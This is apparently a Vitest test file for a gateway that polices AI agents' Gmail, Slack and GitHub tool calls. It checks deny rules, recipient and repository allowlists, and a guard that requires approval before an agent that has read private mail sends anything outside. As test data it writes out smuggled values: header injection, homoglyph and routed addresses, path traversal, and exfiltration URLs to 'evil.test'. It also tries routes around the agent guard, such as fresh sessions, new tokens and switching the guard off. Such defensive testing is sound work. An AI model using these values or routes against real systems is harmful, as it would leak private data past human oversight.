import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { connectAgent, type ToolAnswer } from "../support/agent.ts";
import { LEGACY, legacyClient, messagesOf, modernRequest, post } from "../support/eras.ts";
import { startGateway, type TestGateway } from "../support/gateway.ts";
import { movableClock } from "../support/look.ts";
import { OAuthClient } from "../support/oauth-client.ts";
import { connectTo } from "../support/one-endpoint.ts";
import type { Person } from "../support/person.ts";
import { secondWorkspace } from "../support/second-workspace.ts";
import { READ } from "./helpers.ts";

/** Rules, lists, the guard and limits: the same call under other names, by other doors and in pieces. */
const SEND = "gmail_send_message";
const DRAFT = "gmail_create_draft";
const GMAIL = [
  ...READ,
  "gmail_get_message",
  "gmail_get_attachment",
  SEND,
  DRAFT,
  "gmail_update_draft",
  "gmail_send_draft",
];
const SLACK = ["slack_list_channels", "slack_send_message", "slack_read_channel"];
const GITHUB = ["github_get_repository", "github_get_file", "github_create_issue", "github_list_issues"];
const clock = movableClock();
let gateway: TestGateway;
let owner: Person;
let agentId: string;
let token: string;
let ada: { id: string; slug: string };

beforeAll(async () => {
  gateway = await startGateway({ slack: {}, github: {}, clock: clock.now });
  owner = gateway.owner;
  ada = (await owner.authorize({ email: "ada@acme.test", tools: GMAIL })).body.connector;
  await owner.authorize({ service: "slack", email: "ada@acme.test", tools: SLACK });
  await owner.authorize({ service: "github", email: "ada@acme.test", tools: GITHUB });
  agentId = await owner.newAgent("Held");
  token = (await owner.newToken({ agent: agentId })).value;
});
afterEach(async () => {
  for (const { id } of (await owner.api("GET", "/policies")).rules)
    await owner.api("DELETE", `/policies/${id}`);
});
afterAll(() => gateway?.close());

const ruled = (rule: object): Promise<{ id: string }> =>
  owner.api("POST", "/policies", { name: "Rule", ...rule });
async function call(name: string, args: Record<string, unknown> = {}, value = token): Promise<ToolAnswer> {
  const [, server = "gmail"] = /^(gmail|slack|github)_/.exec(name) ?? [];
  const agent = await connectAgent(gateway.url, value, server);
  try {
    return await agent.call(name, args);
  } catch (error) {
    return { isError: true, text: String(error), structured: undefined, error: undefined };
  } finally {
    await agent.close();
  }
}
const code = async (answer: Promise<ToolAnswer>) => {
  const { isError, error, text } = await answer;
  return isError ? (error?.error ?? text) : "ok";
};
const letter = (more: object = {}) => ({ to: ["ben@acme.test"], subject: "Hello", body: "Hello", ...more });
const mails = async () => (await gateway.google.mail("ada@acme.test")).length;

test("H193 a tool that is denied, under every other name and by every other door", async () => {
  const { uri } = await anAttachment();
  await ruled({ decision: "deny", tool: SEND });
  await ruled({ decision: "deny", tool: "gmail_get_attachment" });
  const before = await mails();
  for (const name of [
    SEND,
    SEND.toUpperCase(),
    ` ${SEND}`,
    `${SEND}\u200b`,
    "gmail.send_message",
    "send_message",
    "gmail_send",
  ])
    expect(await code(call(name, letter())), name).not.toBe("ok");
  const one = await connectTo(`${gateway.url}/mcp?mode=search`, token);
  for (const name of [SEND, "gmail_get_attachment"]) {
    expect((await one.call("call_tool", { name, arguments: letter() })).isError, name).toBe(true);
    expect((await one.call("describe_tool", { name })).isError, name).toBe(true);
    expect(JSON.stringify((await one.call("search_tools", { query: name })).structured ?? {})).not.toContain(
      `"${name}"`,
    );
  }
  // The bytes that the tool would hand out: by link, by resource, as an argument.
  const headers = { authorization: `Bearer ${token}` };
  expect((await fetch(uri.replace("valetkey://", `${gateway.url}/files/`), { headers })).status).not.toBe(
    200,
  );
  await expect(one.client.readResource({ uri })).rejects.toThrow();
  expect(await code(call(DRAFT, letter({ attachments: [uri] })))).toBe("policy_denied");
  await one.close();
  expect(await mails()).toBe(before);
});

async function anAttachment(): Promise<{ uri: string }> {
  const found = await call("gmail_search_threads", { query: "has:attachment", page_size: 5 });
  for (const { thread_id } of (found.structured?.items ?? []) as { thread_id: string }[]) {
    const thread = await call("gmail_get_thread", { thread_id });
    const [uri] = /valetkey:\/\/[^\s"<>)\]\\]+/.exec(JSON.stringify(thread.structured)) ?? [];
    if (uri !== undefined) return { uri };
  }
  throw new Error("there is no attachment");
}

test("H194 a rule on one connector or one agent, got round by another name of it or another token", async () => {
  await ruled({ decision: "deny", connector: ada.id, tool: "gmail_list_labels" });
  for (const connector of [undefined, ada.slug, ada.id])
    expect(await code(call("gmail_list_labels", { ...(connector && { connector }) })), connector).toBe(
      "policy_denied",
    );
  for (const connector of [ada.slug.toUpperCase(), ` ${ada.id}`, `${ada.id}\u0000`, [ada.id], { id: ada.id }])
    expect(await code(call("gmail_list_labels", { connector })), String(connector)).not.toBe("ok");
  const second = (await owner.newToken({ agent: agentId })).value;
  await ruled({ decision: "deny", agent: agentId, server: "gmail" });
  await owner.api("PATCH", `/agents/${agentId}`, { delegation: "members" });
  const delegated = (await owner.api("POST", "/delegations", { name: "x", agent: agentId })).value;
  for (const value of [token, second, delegated])
    expect(await code(call("gmail_search_threads", { query: "x" }, value))).toBe("policy_denied");
});

test("H195 recipients off the list: copies, plus addresses, dots, case, other scripts, quoted and routed ones, names that look like one", async () => {
  await ruled({ decision: "allow", tool: SEND, resources: { recipient_domains: ["acme.test"] } });
  const before = await mails();
  const off = [
    { to: ["eve@evil.test"] },
    { cc: ["eve@evil.test"] },
    { bcc: ["ben@acme.test", "eve@evil.test"] },
    { to: ["eve@acme.test.evil.test"] },
    { to: ["eve@sub.acme.test"] },
    { to: ["eve@notacme.test"] },
    { to: ["ben@acme.test <eve@evil.test>"] },
    { to: ['"ben@acme.test" <eve@evil.test>'] },
    { to: ["ben@acme.test, eve@evil.test"] },
    { to: ["ben@acme.test;eve@evil.test"] },
    { to: ["ben@acme.test\r\nBcc: eve@evil.test"] },
    { to: ["eve%evil.test@acme.test"] },
    { to: ["evil.test!eve@acme.test"] },
    { to: ["@evil.test:ben@acme.test"] },
    { to: ["eve@evil.test@acme.test"] },
    { to: ['"eve@evil.test"@acme.test'] },
    { to: ["ben@\u0430cme.test"] },
    { to: ["ben@acm\u00e9.test"] },
    { to: ["ben@acme.test\u3002evil.test"] },
    { to: ["ben@acme\uff0etest"] },
    { to: ["ben@[127.0.0.1]"] },
    { to: ["group: eve@evil.test;"] },
    { attachments: ["https://evil.test/collect?x=secret"] },
    { attachments: ["https://acme.test@evil.test/x"] },
    { attachments: ["https://acme.test.evil.test/x"] },
  ];
  for (const more of off) {
    const said = await code(call(SEND, letter(more)));
    expect(
      ["target_not_allowed", "target_unknown", "bad_argument"],
      `${JSON.stringify(more)}: ${said}`,
    ).toContain(said);
  }
  expect(await mails()).toBe(before);
  for (const more of [{ to: ["Ben@ACME.test."] }, { to: ["ben+list@acme.test"] }]) {
    const said = await code(call(SEND, letter(more)));
    expect(["ok", "bad_argument"], JSON.stringify(more)).toContain(said);
  }
});

test("H196 recipients that only the mailbox knows: a reply to a stranger, a draft for one, a draft changed after it was looked at", async () => {
  const found = await call("gmail_search_threads", { query: "in:inbox", page_size: 10 });
  const threads = (found.structured?.items ?? []) as { thread_id: string }[];
  const messages: { message_id: string; from: string }[] = [];
  for (const { thread_id } of threads.slice(0, 5)) {
    const { structured } = await call("gmail_get_thread", { thread_id });
    messages.push(...((structured?.messages ?? []) as typeof messages));
  }
  const [stranger] = messages.filter(({ from }) => !from.includes("acme.test"));
  const draft = await call(DRAFT, { to: ["eve@evil.test"], subject: "x", body: "x" });
  const id = draft.structured?.draft_id;
  await ruled({
    decision: "allow",
    server: "gmail",
    effect: "write",
    resources: { recipient_domains: ["acme.test"] },
  });
  await ruled({
    decision: "allow",
    server: "gmail",
    effect: "destructive",
    resources: { recipient_domains: ["acme.test"] },
  });
  const before = await mails();
  expect(await code(call(SEND, { reply_to_message_id: stranger?.message_id, body: "x" }))).toBe(
    "target_not_allowed",
  );
  expect(
    await code(
      call(SEND, {
        reply_to_message_id: stranger?.message_id,
        reply_all: true,
        cc: ["ben@acme.test"],
        body: "x",
      }),
    ),
  ).toBe("target_not_allowed");
  expect(await code(call("gmail_send_draft", { draft_id: id }))).toBe("target_not_allowed");
  expect(await code(call("gmail_update_draft", { draft_id: id, body: "y" }))).toBe("target_not_allowed");
  expect(await mails()).toBe(before);
});

test("H197 repositories and channels off the list: case, climbing, patterns of one's own, ids for names", async () => {
  await ruled({
    decision: "allow",
    server: "github",
    resources: { repositories: ["acme/site", "acme/pub-*"] },
  });
  for (const repo of [
    "acme/web",
    "ACME/web",
    "acme/site/../web",
    "acme/web#acme/site",
    "acme/*",
    "*/*",
    "acme/site acme/web",
    "acme%2fweb",
    "evil/site",
    "acme/pub-x/../web",
    "acme/web?x=acme/site",
    "/acme/web",
  ]) {
    const said = await code(call("github_get_repository", { repo }));
    expect(["target_not_allowed", "target_unknown", "bad_argument"], `${repo}: ${said}`).toContain(said);
  }
  const channels = (await call("slack_list_channels")).structured?.items as {
    channel_id: string;
    name: string;
  }[];
  const [one, two] = channels;
  await ruled({ decision: "allow", tool: "slack_send_message", resources: { channels: [one?.channel_id] } });
  for (const channel of [
    two?.channel_id,
    two?.name,
    `#${two?.name}`,
    ` ${two?.channel_id}`,
    `${one?.channel_id},${two?.channel_id}`,
    `${one?.channel_id}&channel=${two?.channel_id}`,
    "@ben",
    "U0000000000",
  ]) {
    const said = await code(call("slack_send_message", { channel, text: "x" }));
    expect(
      ["target_not_allowed", "target_unknown", "bad_argument", "not_found"],
      `${channel}: ${said}`,
    ).toContain(said);
  }
});

/** Reads what strangers wrote and what is private; then it would tell somebody outside. */
const outside = () => letter({ to: ["eve@evil.test"] });
async function guarded(name: string): Promise<{ id: string; value: string }> {
  const id = await owner.newAgent(name);
  await owner.api("PATCH", `/agents/${id}/guard`, { enabled: true });
  return { id, value: (await owner.newToken({ agent: id })).value };
}
const reads = (value: string) => call("gmail_search_threads", { query: "x" }, value);

test("H198 the guard got round by a new session, another endpoint, another trace, no trace, or the one endpoint", async () => {
  const { value } = await guarded("Sessions");
  const legacy = await legacyClient({ url: gateway.url, token: value });
  await legacy.client.callTool({ name: "gmail_search_threads", arguments: { query: "x" } });
  await legacy.close();
  const before = await mails();
  const codeIn = (messages: { result?: { _meta?: Record<string, { error: string }> } }[]) =>
    messages.at(-1)?.result?._meta?.["valetkey/error"]?.error;
  const out = { name: SEND, arguments: outside() };
  const rpc = { jsonrpc: "2.0", id: 1, method: "tools/call", params: out };
  const at = { url: gateway.url, token: value };
  for (let turn = 0; turn < 3; turn++) {
    const fresh = await legacyClient(at);
    const { session } = fresh;
    expect(codeIn(await messagesOf(await post(at, rpc, { ...LEGACY, "mcp-session-id": session })))).toBe(
      "approval_required",
    );
    await fresh.close();
    const traceparent = `00-${`${turn + 1}`.repeat(32)}-00f067aa0ba902b7-01`;
    expect(codeIn(await messagesOf(await post(at, rpc, { ...LEGACY, traceparent })))).toBe(
      "approval_required",
    );
    const { headers, body } = modernRequest("tools/call", out);
    Object.assign(body.params._meta, { traceparent });
    expect(codeIn(await messagesOf(await post(at, body, headers)))).toBe("approval_required");
  }
  expect(await code(call(SEND, outside(), value))).toBe("approval_required");
  expect(await code(call("github_create_issue", { repo: "acme/web", title: "x" }, value))).toBe(
    "approval_required",
  );
  const one = await connectTo(`${gateway.url}/mcp?mode=search`, value);
  expect((await one.call("call_tool", { name: SEND, arguments: outside() })).error?.error).toBe(
    "approval_required",
  );
  await one.close();
  expect(await mails()).toBe(before);
});

test("H199 the guard got round by many credentials: tokens of one client for several endpoints, with less scope, or minted later", async () => {
  const id = await owner.newAgent("Many");
  await owner.api("PATCH", `/agents/${id}/guard`, { enabled: true });
  const made = await owner.api("POST", `/agents/${id}/clients`, { name: "Many" });
  const { client: known, client_secret: clientSecret } = made;
  const client = new OAuthClient({ url: gateway.url, clientId: known.id, clientSecret });
  const mint = async (server: string, scope?: string) => {
    const resource = client.resource(server);
    const { body } = await client.token({ grant_type: "client_credentials", resource, scope });
    return body.access_token;
  };
  const [reader, poster] = [await mint("gmail", "mcp:read"), await mint("slack")];
  const post = { channel: "general", text: "What I found" };
  expect(await code(call("slack_send_message", post, poster))).toBe("ok");
  const before = await mails();
  await reads(reader);
  expect(await code(call("slack_send_message", post, poster))).toBe("approval_required");
  expect(await code(call("slack_send_message", post, await mint("slack")))).toBe("approval_required");
  expect(await code(call(SEND, outside(), await mint("gmail")))).toBe("approval_required");
  expect(await mails()).toBe(before);
  // Another agent has read nothing.
  const other = await guarded("Clean");
  expect(await code(call(SEND, outside(), other.value))).toBe("ok");
});

test("H200 what would leave by another way than a mail to a stranger: hosts that are asked, previews, drafts, public places", async () => {
  const { value } = await guarded("Ways");
  await reads(value);
  const ways: [string, Record<string, unknown>][] = [
    [SEND, letter({ attachments: ["https://evil.test/?x=secret"] })],
    [SEND, letter({ bcc: ["eve@evil.test"] })],
    [DRAFT, letter({ attachments: ["https://evil.test/?x=secret"] })],
    ["slack_send_message", { channel: "general", text: "https://evil.test/?x=secret", unfurl: true }],
    ["github_create_issue", { repo: "acme/web", title: "secret" }],
  ];
  const before = gateway.google.requests().length;
  for (const [name, args] of ways)
    expect(await code(call(name, args, value)), `${name} ${JSON.stringify(args)}`).toBe("approval_required");
  expect(gateway.google.requests().length - before).toBe(0);
});

test("H201 the guard switched off, or its memory wiped, by the agent, a member, or another workspace", async () => {
  const { id, value } = await guarded("Kept");
  await reads(value);
  const [run] = (await owner.api("GET", `/agents/${id}/guard`)).runs;
  expect(run).toMatchObject({ tripped: true });
  const mia = await gateway.member("mia@acme.test");
  const eve = (await secondWorkspace(gateway)).owner;
  for (const [method, path, body] of [
    ["PATCH", `/agents/${id}/guard`, { enabled: false }],
    ["DELETE", `/agents/${id}/guard/${run.run}`, undefined],
  ] as const) {
    expect((await mia.tryApi(method, path, body)).status).toBe(403);
    expect((await eve.tryApi(method, path, body)).status).toBe(404);
    const answer = await fetch(`${gateway.url}/api/workspaces/${gateway.workspaceId}${path}`, {
      method,
      headers: { authorization: `Bearer ${value}`, "content-type": "application/json" },
      ...(body && { body: JSON.stringify(body) }),
    });
    expect(answer.status).toBe(401);
  }
  expect(await code(call(SEND, outside(), value))).toBe("approval_required");
});

test("H202 rules, lists and limits made or unmade by whoever may not, or with fields that would widen them", async () => {
  const rule = await ruled({ decision: "deny", tool: SEND });
  const limit = await owner
    .api("POST", "/limits", { per_minute: 100, per_day: null, subject: { kind: "any" } })
    .catch((e) => e);
  const mia = await gateway.member("mo@acme.test");
  const eve = (await secondWorkspace(gateway, { name: "Eve", ownerEmail: "e@eve.test" })).owner;
  const made = await eve.api("POST", "/policies", {
    name: "Theirs",
    decision: "allow",
    tool: SEND,
    agent: null,
  });
  for (const [method, path, body] of [
    ["POST", "/policies", { name: "x", decision: "allow", tool: SEND }],
    ["PATCH", `/policies/${rule.id}`, { decision: "allow" }],
    ["DELETE", `/policies/${rule.id}`, undefined],
    ["PATCH", "/policies", { defaults: { write: "allow" } }],
  ] as const) {
    expect((await mia.tryApi(method, path, body)).status, `${method} ${path}`).toBe(403);
    if (path.includes(rule.id)) expect((await eve.tryApi(method, path, body)).status).toBe(404);
  }
  expect(
    (await eve.tryApi("POST", "/policies", { name: "x", decision: "allow", agent: agentId })).status,
  ).not.toBe(201);
  for (const body of [
    { name: "x", decision: "allow", workspace_id: gateway.workspaceId },
    { name: "x", decision: "ALLOW" },
    { name: "x", decision: ["allow"] },
    { name: "x", decision: "deny", resources: { recipient_domains: ["acme.test"] } },
    { name: "x", decision: "allow", resources: { recipient_domains: ["*"] } },
    { name: "x", decision: "allow", resources: { recipient_domains: ["acme.test/"] } },
    { name: "x", decision: "allow", resources: { repositories: ["*"] } },
    { name: "x", decision: "allow", resources: { unknown: [] } },
    { name: "x", decision: "allow", tool: "gmail_fly" },
  ])
    expect((await owner.tryApi("POST", "/policies", body)).status, JSON.stringify(body)).toBe(400);
  expect(made.id).toBeTruthy();
  expect(limit).toBeTruthy();
  expect(await code(call(SEND, letter()))).toBe("policy_denied");
});

test("H203 a question what the rules say, asked to learn of others or to run something", async () => {
  const before = gateway.google.requests().length;
  const mia = await gateway.member("may@acme.test");
  const ask = (by: Person, body: object) => by.tryApi("POST", "/policies/test", body);
  expect((await ask(mia, { tool: SEND, arguments: letter() })).status).toBe(403);
  const eve = (await secondWorkspace(gateway, { name: "Asks", ownerEmail: "a@asks.test" })).owner;
  expect((await ask(eve, { tool: SEND, agent: agentId })).status).toBe(404);
  const asked = await ask(eve, { tool: SEND, user: owner.session.user.id });
  for (const told of ["owner@acme.test", ada.id, ada.slug, "ada@acme.test"])
    expect(JSON.stringify(asked.body)).not.toContain(told);
  const theirs = await ask(eve, { tool: SEND, connector: ada.slug, arguments: letter() });
  expect(JSON.stringify(theirs.body)).not.toContain(ada.id);
  const own = await ask(owner, { tool: SEND, agent: agentId, connector: ada.slug, arguments: letter() });
  expect(own.status).toBe(200);
  expect(gateway.google.requests().length).toBe(before);
});
